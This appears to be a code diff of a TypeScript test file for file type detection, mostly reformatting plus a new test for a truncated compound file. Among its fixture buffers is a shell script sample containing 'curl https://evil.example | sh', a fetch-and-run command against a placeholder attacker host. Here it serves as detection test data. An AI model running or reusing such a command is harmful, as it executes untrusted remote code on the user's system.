@@ -17,7 +17,11 @@ const PNG = Buffer.concat([
   Buffer.alloc(32),
 ]);
 const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(32)]);
-const EXE = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60), Buffer.from('PE')]);
+const EXE = Buffer.concat([
+  Buffer.from('MZ\x90\x00', 'latin1'),
+  Buffer.alloc(60),
+  Buffer.from('PE'),
+]);
 const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)]);
 const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
 
@@ -109,7 +113,9 @@ function compoundFile(names: string[], fatSectors = 1): Buffer {
   for (let id = 0; id < fatSectors; id++) fat[id] = 0xfffffffd;
   for (let id = fatSectors; id < firstDirectory; id++) fat[id] = 0xfffffffc;
   for (let id = firstDirectory; id < total; id++) fat[id] = id + 1 < total ? id + 1 : END;
-  fat.forEach((value, i) => file.writeUInt32LE(value, sectorAt(Math.floor(i / 128)) + (i % 128) * 4));
+  fat.forEach((value, i) =>
+    file.writeUInt32LE(value, sectorAt(Math.floor(i / 128)) + (i % 128) * 4),
+  );
 
   for (let d = 0; d < difatSectors; d++) {
     const at = sectorAt(fatSectors + d);
@@ -200,6 +206,12 @@ describe('file type detection', () => {
       const big = compoundFile(['Workbook'], 120);
       expect(big.length).toBeGreaterThan(120 * 512);
       expect(detectFileType(big)).toBe('xls');
+    });
+
+    it('reads a file whose last sector was cut short', () => {
+      const names = ['a', 'b', 'c', 'd', 'WordDocument'];
+      const file = compoundFile(names);
+      expect(readCompoundFileNames(file.subarray(0, file.length - 300))).toContain('WordDocument');
     });
 
     it('accepts the pre-97 Excel "Book" stream', () => {
